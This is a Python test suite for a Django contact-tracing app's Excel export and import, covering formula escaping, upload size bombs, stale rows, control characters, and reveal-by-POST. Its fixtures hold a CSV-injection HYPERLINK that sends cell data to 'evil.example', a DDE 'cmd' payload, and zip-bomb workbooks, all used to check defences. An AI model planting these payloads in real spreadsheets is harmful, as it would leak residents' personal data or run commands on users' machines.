"""Security of the push Excel round trip (issue 9): formula injection, bounded uploads
parsed before any write lock, older workbooks that cannot revert newer marks, control
characters in notes, reveal by POST only, malformed multipart."""

from __future__ import annotations

import io
import re
import threading
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, connections, transaction
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from fangkong.accounts.models import AuditEvent
from fangkong.areas.models import Jurisdiction
from fangkong.core import spreadsheet
from fangkong.core.errors import DomainError
from fangkong.testkit.jobs import export_download
from fangkong.testkit.worlds.pushes import Factory, World, build_world, workbook_bytes
from fangkong.tracing import excel
from fangkong.tracing.models import PushItem, PushItemStatus, VerificationPush
from fangkong.tracing.services import pushes as services

STATUS_COL = excel.COLUMNS.index(excel.COL_STATUS) + 1
NOTE_COL = excel.COLUMNS.index(excel.COL_NOTE) + 1
ID_COL = excel.COLUMNS.index(excel.COL_ITEM_ID) + 1
VERSION_COL = excel.COLUMNS.index(excel.COL_VERSION) + 1
XLSX = excel.XLSX_CONTENT_TYPE

HYPERLINK = '=HYPERLINK("https://evil.example/?"&C4&D4,"点击核对")'
# name / address pairs a resident or a clerk could have typed
PLANTED = {
    "f_eq": (HYPERLINK, "=1+1"),
    "f_plus": ("+赵一", "+幸福路 1 号"),
    "f_minus": ("-钱二", "-2+3"),
    "f_at": ("@孙三", "@SUM(A1:A2)"),
    "f_tab": ("\t=李四", "\t=cmd|' /C calc'!A0"),
    "f_cr": ("\r=周五", "\r=1+2"),
}
NOTES = {
    "f_eq": HYPERLINK,
    "f_plus": "+86 138 0000 0000 已联系",
    "f_minus": "-已居家",
    "f_at": "@社区书记",
}


@pytest.fixture
def world(tree: Any, make_user: Any) -> World:
    return build_world(tree, make_user)


@pytest.fixture
def push_a(world: World) -> VerificationPush:
    created = services.pushes_create_for_case(actor=world.investigator, case=world.case)
    return next(p for p in created if p.jurisdiction_path == world.tree.town_a.path)


def _row_of(ws: Any, item_id: int) -> int:
    for row in range(excel.FIRST_DATA_ROW, ws.max_row + 1):
        if ws.cell(row=row, column=ID_COL).value == item_id:
            return int(row)
    raise AssertionError(f"item {item_id} not in the sheet")


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _fill(data: bytes, marks: dict[int, tuple[str, str]]) -> bytes:
    wb = load_workbook(io.BytesIO(data))
    ws = wb.active
    for item_id, (status, note) in marks.items():
        row = _row_of(ws, item_id)
        ws.cell(row=row, column=STATUS_COL).value = status
        ws.cell(row=row, column=NOTE_COL).value = note
    return workbook_bytes(wb)


def _with_dimension(data: bytes, ref: str) -> bytes:
    """The same workbook with the sheet's declared dimension rewritten to `ref`."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                content = re.sub(
                    rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), content
                )
            target.writestr(info.filename, content)
    return out.getvalue()


# --- 1. formula injection ------------------------------------------------------------


@pytest.fixture
def planted(world: World) -> VerificationPush:
    """Persons whose name and address start with a formula prefix, on town A's list,
    with notes that start with one too (all through the services)."""
    factory = Factory(world.command)
    factory.seq = 700
    for key, (name, address) in PLANTED.items():
        person, _id, _phone = factory.person(world.tree.community_a, name, address=address)
        world.contacts[key] = factory.contact(person, world.ruleset, case=world.case)
    created = services.pushes_create_for_case(actor=world.investigator, case=world.case)
    push = next(p for p in created if p.jurisdiction_path == world.tree.town_a.path)
    for key, note in NOTES.items():
        item = PushItem.objects.get(contact=world.contacts[key])
        services.push_item_mark(actor=world.town_a, item=item, status="home", note=note)
    return push


@pytest.mark.django_db
@pytest.mark.parametrize("reveal", [False, True])
def test_planted_formulas_are_exported_as_escaped_text(
    world: World, planted: VerificationPush, reveal: bool
) -> None:
    data = excel.push_export_xlsx(actor=world.town_a, push=planted, reveal=reveal)

    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for cell in cells:
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.coordinate
    for key in PLANTED:
        person = world.contacts[key].person  # as stored: the services strip a leading tab
        row = _row_of(ws, PushItem.objects.get(contact=world.contacts[key]).pk)
        assert ws.cell(row=row, column=5).value == "'" + person.household.address
        if reveal:
            assert ws.cell(row=row, column=2).value == "'" + person.name
        if key in NOTES:
            assert ws.cell(row=row, column=NOTE_COL).value == "'" + NOTES[key]


@pytest.mark.django_db
def test_an_exported_workbook_reimported_keeps_every_note_exactly(
    world: World, planted: VerificationPush
) -> None:
    exported = excel.push_export_xlsx(actor=world.town_a, push=planted)
    before = dict(PushItem.objects.filter(push=planted).values_list("pk", "note"))

    report = excel.push_import_feedback(actor=world.town_a, push=planted, file=exported)

    assert report.ok and report.changed == 0 and report.stale == []
    assert dict(PushItem.objects.filter(push=planted).values_list("pk", "note")) == before

    # The town changes one status; the planted notes of the other rows survive, and the
    # changed row's note is read back unescaped.
    item = PushItem.objects.get(contact=world.contacts["f_minus"])
    filled = _fill(exported, {item.pk: ("已集中隔离", "'-已居家")})
    report = excel.push_import_feedback(actor=world.town_a, push=planted, file=filled)

    assert report.ok and report.changed == 1
    item.refresh_from_db()
    assert (item.status, item.note) == (PushItemStatus.CENTRALISED, "-已居家")
    for key, note in NOTES.items():
        assert PushItem.objects.get(contact=world.contacts[key]).note == note


# --- 2. bounded uploads, parsed before any write lock ----------------------------------


@pytest.mark.django_db
def test_a_tiny_file_declaring_a_huge_sheet_is_read_as_the_cells_it_holds(
    world: World, push_a: VerificationPush
) -> None:
    # One rule for every upload (core.spreadsheet.xlsx_rows): the declared dimension is
    # ignored, so a file declaring A1:XFD12000 (196 million cells) costs what it holds.
    exported = excel.push_export_xlsx(actor=world.town_a, push=push_a)
    item = PushItem.objects.filter(push=push_a).first()
    assert item is not None
    wb = Workbook()
    wb.active.append(list(excel.COLUMNS))
    for ref in ("A1:XFD12000", "A1:K1048576"):
        bare = _with_dimension(workbook_bytes(wb), ref)
        assert len(bare) < 10_000
        rows = excel.feedback_sheet_read(bare)
        assert [(r.row, len(r.cells)) for r in rows] == [(1, len(excel.COLUMNS))]

    bomb = _with_dimension(_fill(exported, {item.pk: ("已居家隔离", "")}), "A1:XFD12000")
    report = excel.push_import_feedback(actor=world.town_a, push=push_a, file=bomb)

    assert report.ok and report.changed == 1
    item.refresh_from_db()
    assert item.status == PushItemStatus.HOME


@pytest.mark.django_db
def test_a_declared_dimension_smaller_than_the_sheet_does_not_hide_rows(
    world: World, push_a: VerificationPush
) -> None:
    exported = excel.push_export_xlsx(actor=world.town_a, push=push_a)
    items = list(PushItem.objects.filter(push=push_a).order_by("pk"))
    filled = _fill(exported, {i.pk: ("已居家隔离", "") for i in items})

    report = excel.push_import_feedback(
        actor=world.town_a, push=push_a, file=_with_dimension(filled, "A1:A1")
    )

    assert report.ok and report.changed == len(items)


@pytest.mark.django_db
def test_too_many_real_rows_columns_or_a_far_row_are_refused(
    world: World, push_a: VerificationPush, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(excel, "MAX_IMPORT_ROWS", 20)
    exported = excel.push_export_xlsx(actor=world.town_a, push=push_a)

    wb = load_workbook(io.BytesIO(exported))
    for n in range(40):
        wb.active.append([n, "手写"])
    with pytest.raises(DomainError) as exc:
        excel.push_import_feedback(actor=world.town_a, push=push_a, file=workbook_bytes(wb))
    assert exc.value.code == "import_too_many_rows"

    wb = load_workbook(io.BytesIO(exported))
    wb.active.cell(row=excel.FIRST_DATA_ROW, column=excel.MAX_IMPORT_COLUMNS + 1).value = "x"
    with pytest.raises(DomainError) as exc:
        excel.push_import_feedback(actor=world.town_a, push=push_a, file=workbook_bytes(wb))
    assert exc.value.code == "import_too_many_columns"

    # One stored cell far down, under a small declared dimension: reading stops at the
    # row limit instead of walking a million empty rows.
    wb = load_workbook(io.BytesIO(exported))
    wb.active.cell(row=1_048_576, column=1).value = "x"
    far = _with_dimension(workbook_bytes(wb), "A1:L6")
    with pytest.raises(DomainError) as exc:
        excel.push_import_feedback(actor=world.town_a, push=push_a, file=far)
    assert exc.value.code == "import_too_many_rows"
    assert not PushItem.objects.exclude(status=PushItemStatus.PENDING).exists()


@pytest.mark.django_db
def test_an_archive_that_unpacks_too_large_and_non_workbooks_are_refused(
    world: World, push_a: VerificationPush
) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (excel.MAX_IMPORT_UNZIPPED_BYTES + 1))
    assert len(out.getvalue()) < excel.MAX_IMPORT_BYTES

    with pytest.raises(DomainError) as exc:
        excel.push_import_feedback(actor=world.town_a, push=push_a, file=out.getvalue())
    assert (exc.value.code, exc.value.status) == ("import_file_too_large", 413)

    for junk in (b"not a workbook", b"PK\x03\x04 truncated", b""):
        with pytest.raises(DomainError) as exc:
            excel.push_import_feedback(actor=world.town_a, push=push_a, file=junk)
        assert exc.value.code == "import_file_invalid"


@pytest.mark.django_db(transaction=True)
def test_the_upload_is_parsed_with_no_transaction_open_and_writes_go_on_meanwhile(
    tree: Any, make_user: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    world = build_world(tree, make_user)
    created = services.pushes_create_for_case(actor=world.investigator, case=world.case)
    push = next(p for p in created if p.jurisdiction_path == tree.town_a.path)
    item = PushItem.objects.filter(push=push).first()
    assert item is not None
    filled = _fill(
        excel.push_export_xlsx(actor=world.town_a, push=push), {item.pk: ("已居家隔离", "")}
    )
    seen: dict[str, Any] = {}
    parse = spreadsheet.load_workbook

    def concurrent_write() -> None:
        try:
            Jurisdiction.objects.filter(pk=tree.town_b.pk).update(name="濮院镇（改）")
            seen["write"] = "ok"
        except Exception as exc:  # the test reports what happened
            seen["write"] = repr(exc)
        finally:
            connections.close_all()

    def spying_load(*args: Any, **kwargs: Any) -> Any:
        seen["in_transaction"] = transaction.get_connection().in_atomic_block
        writer = threading.Thread(target=concurrent_write)
        writer.start()
        writer.join(timeout=30)
        return parse(*args, **kwargs)

    monkeypatch.setattr(spreadsheet, "load_workbook", spying_load)
    report = excel.push_import_feedback(actor=world.town_a, push=push, file=filled)

    assert seen == {"in_transaction": False, "write": "ok"}
    assert report.ok and report.changed == 1
    assert Jurisdiction.objects.get(pk=tree.town_b.pk).name == "濮院镇（改）"
    assert not connection.in_atomic_block


@pytest.mark.django_db
def test_the_api_refuses_a_far_row_bomb_and_a_non_workbook_with_a_code(
    world: World, push_a: VerificationPush
) -> None:
    client = _client(world.town_a)
    url = f"/api/tracing/pushes/{push_a.pk}/import"
    wb = Workbook()
    wb.active.append(list(excel.COLUMNS))
    wb.active.cell(row=1_048_576, column=1).value = "x"
    bomb = _with_dimension(workbook_bytes(wb), "A1:XFD12000")
    assert len(bomb) < 10_000

    refused = client.post(url, {"file": SimpleUploadedFile("f.xlsx", bomb, XLSX)})
    junk = client.post(url, {"file": SimpleUploadedFile("f.xlsx", b"hello", XLSX)})
    page = client.post(
        reverse("tracing:push_import", args=[push_a.pk]),
        {"file": SimpleUploadedFile("f.xlsx", bomb, XLSX)},
        HTTP_ACCEPT="application/json",
    )

    assert (refused.status_code, refused.json()["code"]) == (400, "import_too_many_rows")
    assert (junk.status_code, junk.json()["code"]) == (400, "import_file_invalid")
    assert (page.status_code, page.json()["code"]) == (400, "import_too_many_rows")
    assert not PushItem.objects.exclude(status=PushItemStatus.PENDING).exists()


# --- 3. an older workbook cannot revert a newer mark ------------------------------------


@pytest.mark.django_db
def test_an_older_workbook_applies_its_other_rows_and_reports_the_stale_ones(
    world: World, push_a: VerificationPush
) -> None:
    a1, a2, a3 = (PushItem.objects.get(contact=world.contacts[k]) for k in ("a1", "a2", "a3"))
    old = excel.push_export_xlsx(actor=world.town_a, push=push_a)
    # after the export, the town marks a1 on the page (a newer mark)
    services.push_item_mark(actor=world.town_a, item=a1, status="centralised", note="宾馆 302")
    filled = _fill(old, {a1.pk: ("已找到", ""), a2.pk: ("已居家隔离", ""), a3.pk: ("", "")})
    stale_row = _row_of(load_workbook(io.BytesIO(filled)).active, a1.pk)

    report = excel.push_import_feedback(actor=world.town_a, push=push_a, file=filled)

    assert report.ok and report.changed == 1 and report.unchanged == 1
    assert [(e.row, e.code) for e in report.stale] == [(stale_row, "row_stale")]
    a1.refresh_from_db()
    a2.refresh_from_db()
    assert (a1.status, a1.note) == (PushItemStatus.CENTRALISED, "宾馆 302")
    assert a2.status == PushItemStatus.HOME
    event = AuditEvent.objects.get(action="push.import")
    assert event.detail["stale"] == [stale_row]

    # A fresh export carries the new versions: the same change now applies.
    fresh = _fill(excel.push_export_xlsx(actor=world.town_a, push=push_a), {a1.pk: ("已找到", "")})
    again = excel.push_import_feedback(actor=world.town_a, push=push_a, file=fresh)
    assert again.changed == 1 and again.stale == []
    a1.refresh_from_db()
    assert a1.status == PushItemStatus.LOCATED


@pytest.mark.django_db
def test_the_api_lists_stale_rows_and_old_files_without_versions_are_refused(
    world: World, push_a: VerificationPush
) -> None:
    a1 = PushItem.objects.get(contact=world.contacts["a1"])
    client = _client(world.town_a)
    old = client.get(f"/api/tracing/pushes/{push_a.pk}/export.xlsx").content
    marked = client.post(
        f"/api/tracing/push-items/{a1.pk}/mark", {"status": "home"}, content_type="application/json"
    )
    assert marked.status_code == 200
    filled = _fill(old, {a1.pk: ("未找到", "")})

    response = client.post(
        f"/api/tracing/pushes/{push_a.pk}/import",
        {"file": SimpleUploadedFile("f.xlsx", filled, XLSX)},
    )

    assert response.status_code == 200, response.content
    body = response.json()
    assert body["changed"] == 0 and [e["code"] for e in body["stale"]] == ["row_stale"]
    a1.refresh_from_db()
    assert a1.status == PushItemStatus.HOME

    wb = load_workbook(io.BytesIO(filled))
    wb.active.delete_cols(VERSION_COL)  # a workbook exported before versions existed
    unversioned = client.post(
        f"/api/tracing/pushes/{push_a.pk}/import",
        {"file": SimpleUploadedFile("f.xlsx", workbook_bytes(wb), XLSX)},
    )
    assert (unversioned.status_code, unversioned.json()["code"]) == (
        400,
        "import_version_missing",
    )


# --- 4. control characters in notes ----------------------------------------------------


@pytest.mark.django_db
def test_control_characters_in_a_note_are_refused_at_input(
    world: World, push_a: VerificationPush
) -> None:
    a1 = PushItem.objects.get(contact=world.contacts["a1"])

    with pytest.raises(DomainError) as exc:
        services.push_item_mark(actor=world.town_a, item=a1, status="home", note="已隔离\x01")
    assert exc.value.code == "note_control_character"
    response = _client(world.town_a).post(
        f"/api/tracing/push-items/{a1.pk}/mark",
        {"status": "home", "note": "\x1f宾馆"},
        content_type="application/json",
    )
    assert (response.status_code, response.json()["code"]) == (400, "note_control_character")
    a1.refresh_from_db()
    assert (a1.status, a1.note) == (PushItemStatus.PENDING, "")
    # tab and line breaks inside a note are text, not control characters
    services.push_item_mark(actor=world.town_a, item=a1, status="home", note="一楼\n二楼")


@pytest.mark.django_db
def test_a_note_stored_with_control_characters_no_longer_breaks_the_export(
    world: World, push_a: VerificationPush
) -> None:
    a1 = PushItem.objects.get(contact=world.contacts["a1"])
    # a note stored before the input check existed
    PushItem.objects.filter(pk=a1.pk).update(note="宾馆\x01302\x07", status="home")

    data = excel.push_export_xlsx(actor=world.town_a, push=push_a)

    ws = load_workbook(io.BytesIO(data)).active
    assert ws.cell(row=_row_of(ws, a1.pk), column=NOTE_COL).value == "宾馆302"


# --- 5. reveal by POST only ------------------------------------------------------------


@pytest.mark.django_db
def test_a_get_export_never_reveals_and_a_post_reveals_with_one_audit_row(
    world: World, push_a: VerificationPush
) -> None:
    client = _client(world.town_a)
    url = f"/api/tracing/pushes/{push_a.pk}/export.xlsx"

    for query in ("?reveal=true", "?reveal=1", "?reveal=True"):
        response = client.get(url + query)
        assert (response.status_code, response.json()["code"]) == (400, "reveal_requires_post")
    assert not AuditEvent.objects.filter(action="push.export").exists()
    # The page's GET (even ?reveal=1) shows the export buttons: it writes nothing
    page = client.get(reverse("tracing:push_export", args=[push_a.pk]) + "?reveal=1")
    assert page.status_code == 200 and 'data-testid="export-masked"' in page.content.decode()
    assert not AuditEvent.objects.filter(action="push.export").exists()
    masked = export_download(client, reverse("tracing:push_export", args=[push_a.pk]))
    page_text = str(
        [c.value for row in load_workbook(io.BytesIO(masked.content)).active for c in row]
    )
    assert world.ids["a1"] not in page_text

    revealed = client.post(url, {"reveal": True}, content_type="application/json")

    assert revealed.status_code == 200
    text = str([c.value for row in load_workbook(io.BytesIO(revealed.content)).active for c in row])
    assert world.ids["a1"] in text
    assert [
        e.detail["reveal"] for e in AuditEvent.objects.filter(action="push.export").order_by("pk")
    ] == [
        False,
        True,
    ]
    lab = _client(world.lab).post(url, {"reveal": True}, content_type="application/json")
    other_town = _client(world.town_b).post(url, {"reveal": True}, content_type="application/json")
    assert lab.status_code == 403 and other_town.status_code == 404
    assert AuditEvent.objects.filter(action="push.export").count() == 2


# --- 6. multipart without a boundary ---------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("debug", [False, True])
def test_a_multipart_upload_without_a_boundary_is_a_400(
    world: World, push_a: VerificationPush, settings: Any, debug: bool
) -> None:
    settings.DEBUG = debug
    client = Client(raise_request_exception=False)
    client.force_login(world.town_a)

    api = client.generic(
        "POST",
        f"/api/tracing/pushes/{push_a.pk}/import",
        b"--x\r\nabc",
        content_type="multipart/form-data",
    )
    page = client.generic(
        "POST",
        reverse("tracing:push_import", args=[push_a.pk]),
        b"--x\r\nabc",
        content_type="multipart/form-data",
    )

    assert page.status_code == 400
    assert api.status_code == 400
    assert api["Content-Type"].startswith("application/json") and "code" in api.json()
    assert not AuditEvent.objects.filter(action="push.import").exists()


@pytest.mark.django_db
def test_the_import_page_applies_the_rest_and_names_the_stale_rows(
    world: World, push_a: VerificationPush
) -> None:
    a1, a2 = (PushItem.objects.get(contact=world.contacts[k]) for k in ("a1", "a2"))
    client = _client(world.town_a)
    old = export_download(client, reverse("tracing:push_export", args=[push_a.pk])).content
    services.push_item_mark(actor=world.town_a, item=a1, status="home")
    filled = _fill(old, {a1.pk: ("未找到", ""), a2.pk: ("已送医", "")})
    stale_row = _row_of(load_workbook(io.BytesIO(filled)).active, a1.pk)

    response = client.post(
        reverse("tracing:push_import", args=[push_a.pk]),
        {"file": SimpleUploadedFile("f.xlsx", filled, XLSX)},
        follow=True,
    )

    assert response.status_code == 200
    page = response.content.decode()
    assert "未导入" in page and f"第 {stale_row} 行" in page
    a1.refresh_from_db()
    a2.refresh_from_db()
    assert (a1.status, a2.status) == (PushItemStatus.HOME, PushItemStatus.HOSPITAL)
